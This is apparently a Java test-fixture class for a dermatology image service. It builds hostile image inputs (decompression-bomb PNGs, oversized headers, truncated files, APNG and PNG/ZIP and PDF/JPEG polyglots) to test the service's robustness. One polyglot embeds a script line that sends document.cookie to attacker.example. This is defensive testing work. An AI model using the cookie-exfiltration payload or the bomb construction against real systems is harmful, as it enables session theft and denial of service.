package io.dermcap.it.faults;

import io.dermcap.it.service.Lesions;

import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageTypeSpecifier;
import javax.imageio.ImageWriter;
import javax.imageio.metadata.IIOMetadata;
import javax.imageio.metadata.IIOMetadataNode;
import javax.imageio.stream.ImageOutputStream;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Odd, broken and malicious image files, built byte by byte where no encoder would write them
 * (decompression bombs, APNG chunks, polyglots) and with ImageIO otherwise. The odd colour models
 * Pillow's own encoder wrote are read from {@code onnx-models/fixtures/pil-vectors}.
 */
final class HostileImages {

    private static final byte[] PNG_SIGNATURE = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};

    private HostileImages() {
    }

    static byte[] lesionPng() {
        return Lesions.image(0);
    }

    static byte[] lesionJpeg() {
        return Lesions.image(1);
    }

    /** A committed Pillow-written vector, e.g. {@code cmyk.jpg}. */
    static byte[] pilVector(String name) {
        try {
            return Files.readAllBytes(ReliabilityReport.REPO.resolve(Path.of("onnx-models", "fixtures", "pil-vectors", name)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A {@code w}×{@code h} RGB gradient PNG (extreme aspect ratios, single pixels). */
    static byte[] gradientPng(int w, int h) {
        BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
        for (int y = 0; y < h; y++) {
            for (int x = 0; x < w; x++) {
                img.setRGB(x, y, new Color(200 - (x * 100 / w), 150, 120 + (y * 100 / h)).getRGB());
            }
        }
        return write(img, "png");
    }

    /**
     * A valid-looking PNG whose header declares {@code w}×{@code h} pixels (8-bit RGB) but whose
     * one IDAT holds a few compressed bytes: the classic decompression bomb shape, a few hundred
     * bytes on disk, gigabytes once decoded.
     */
    static byte[] pngDeclaring(long w, long h) {
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt((int) w).putInt((int) h).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        byte[] rows = new byte[64 * 1024]; // zeros compress to almost nothing
        Deflater deflater = new Deflater(9);
        deflater.setInput(rows);
        deflater.finish();
        byte[] idat = new byte[1024];
        int n = deflater.deflate(idat);
        deflater.end();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(PNG_SIGNATURE);
        chunk(out, "IHDR", ihdr.array());
        chunk(out, "IDAT", Arrays.copyOf(idat, n));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /** A baseline JPEG frame header declaring {@code w}×{@code h} (up to 65535 each), and no scan. */
    static byte[] jpegDeclaring(int w, int h) {
        ByteBuffer b = ByteBuffer.allocate(2 + 19 + 2);
        b.put((byte) 0xff).put((byte) 0xd8); // SOI
        b.put((byte) 0xff).put((byte) 0xc0).putShort((short) 17).put((byte) 8).putShort((short) h).putShort((short) w)
                .put((byte) 3);
        for (int c = 1; c <= 3; c++) {
            b.put((byte) c).put((byte) 0x11).put((byte) 0);
        }
        b.put((byte) 0xff).put((byte) 0xd9); // EOI
        return b.array();
    }

    /** A GIF logical screen of {@code w}×{@code h} (up to 65535 each) around a 1×1 image. */
    static byte[] gifDeclaring(int w, int h) {
        ByteBuffer b = ByteBuffer.allocate(64).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        b.put("GIF89a".getBytes(StandardCharsets.US_ASCII)).putShort((short) w).putShort((short) h)
                .put((byte) 0x80).put((byte) 0).put((byte) 0); // global colour table of 2
        b.put(new byte[] {0, 0, 0, (byte) 255, (byte) 255, (byte) 255});
        b.put((byte) 0x2c).putShort((short) 0).putShort((short) 0).putShort((short) 1).putShort((short) 1).put((byte) 0);
        b.put((byte) 2).put((byte) 2).put((byte) 0x4c).put((byte) 0x01).put((byte) 0); // LZW min 2, one block
        b.put((byte) 0x3b);
        return Arrays.copyOf(b.array(), b.position());
    }

    static byte[] truncated(byte[] image, double keep) {
        return Arrays.copyOf(image, (int) (image.length * keep));
    }

    /** Three frames of different colours, looping: Pillow (and dermcap) caption the first. */
    static byte[] animatedGif() {
        ImageWriter writer = ImageIO.getImageWritersByFormatName("gif").next();
        List<IIOImage> frames = new ArrayList<>();
        for (Color c : new Color[] {new Color(200, 140, 120), new Color(90, 50, 40), new Color(230, 180, 160)}) {
            BufferedImage frame = new BufferedImage(96, 80, BufferedImage.TYPE_BYTE_INDEXED);
            Graphics2D g = frame.createGraphics();
            g.setColor(c);
            g.fillRect(0, 0, 96, 80);
            g.setColor(Color.DARK_GRAY);
            g.fillOval(30, 20, 36, 40);
            g.dispose();
            try {
                IIOMetadata meta = writer.getDefaultImageMetadata(ImageTypeSpecifier.createFromRenderedImage(frame), null);
                IIOMetadataNode root = (IIOMetadataNode) meta.getAsTree(meta.getNativeMetadataFormatName());
                IIOMetadataNode gce = new IIOMetadataNode("GraphicControlExtension");
                gce.setAttribute("disposalMethod", "none");
                gce.setAttribute("userInputFlag", "FALSE");
                gce.setAttribute("transparentColorFlag", "FALSE");
                gce.setAttribute("delayTime", "20");
                gce.setAttribute("transparentColorIndex", "0");
                root.appendChild(gce);
                meta.setFromTree(meta.getNativeMetadataFormatName(), root);
                frames.add(new IIOImage(frame, null, meta));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return sequence(writer, frames);
    }

    /** A TIFF with three pages (a scanner's multi-page file): the first page is captioned. */
    static byte[] multiPageTiff() {
        List<IIOImage> pages = new ArrayList<>();
        for (int page = 0; page < 3; page++) {
            try {
                pages.add(new IIOImage(ImageIO.read(new ByteArrayInputStream(Lesions.image(page * 2))), null, null));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return sequence(ImageIO.getImageWritersByFormatName("tiff").next(), pages);
    }

    /** One file of several images (frames, pages) written by {@code writer}. */
    private static byte[] sequence(ImageWriter writer, List<IIOImage> images) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
             ImageOutputStream out = ImageIO.createImageOutputStream(bytes)) {
            writer.setOutput(out);
            writer.prepareWriteSequence(null);
            for (IIOImage image : images) {
                writer.writeToSequence(image, null);
            }
            writer.endWriteSequence();
            writer.dispose();
            out.flush();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * An animated PNG: the lesion PNG with {@code acTL}/{@code fcTL} chunks and a second frame in
     * an {@code fdAT} chunk. Decoders that do not animate show the default image (the IDAT).
     */
    static byte[] apng() {
        byte[] png = lesionPng();
        ByteBuffer in = ByteBuffer.wrap(png, 8, png.length - 8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(PNG_SIGNATURE);
        int width = 0;
        int height = 0;
        int sequence = 0;
        ByteArrayOutputStream idats = new ByteArrayOutputStream();
        while (in.remaining() >= 12) {
            int length = in.getInt();
            byte[] type = new byte[4];
            in.get(type);
            byte[] data = new byte[length];
            in.get(data);
            in.getInt(); // crc
            String name = new String(type, StandardCharsets.US_ASCII);
            switch (name) {
                case "IHDR" -> {
                    width = ByteBuffer.wrap(data).getInt(0);
                    height = ByteBuffer.wrap(data).getInt(4);
                    chunk(out, name, data);
                    chunk(out, "acTL", ByteBuffer.allocate(8).putInt(2).putInt(0).array());
                    chunk(out, "fcTL", frameControl(sequence++, width, height));
                }
                case "IDAT" -> {
                    chunk(out, name, data);
                    idats.writeBytes(data);
                }
                case "IEND" -> {
                    chunk(out, "fcTL", frameControl(sequence++, width, height));
                    byte[] frame = idats.toByteArray();
                    chunk(out, "fdAT", ByteBuffer.allocate(4 + frame.length).putInt(sequence++).put(frame).array());
                    chunk(out, name, data);
                }
                default -> chunk(out, name, data);
            }
        }
        return out.toByteArray();
    }

    private static byte[] frameControl(int sequence, int width, int height) {
        return ByteBuffer.allocate(26).putInt(sequence).putInt(width).putInt(height).putInt(0).putInt(0)
                .putShort((short) 1).putShort((short) 10).put((byte) 0).put((byte) 0).array();
    }

    /** A PNG followed by a ZIP archive holding a script: both a valid image and a valid archive. */
    static byte[] pngZipPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(lesionPng());
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("payload.js"));
            zip.write("fetch('https://attacker.example/'+document.cookie)".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A PDF header with a JPEG embedded after it: a PDF viewer's file, not an image. */
    static byte[] pdfJpegPolyglot() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("%PDF-1.4\n1 0 obj << /Type /XObject /Subtype /Image >> stream\n".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(lesionJpeg());
        out.writeBytes("\nendstream endobj\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    static byte[] write(BufferedImage image, String format) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no " + format + " writer");
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(name);
        out.writeBytes(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }
}
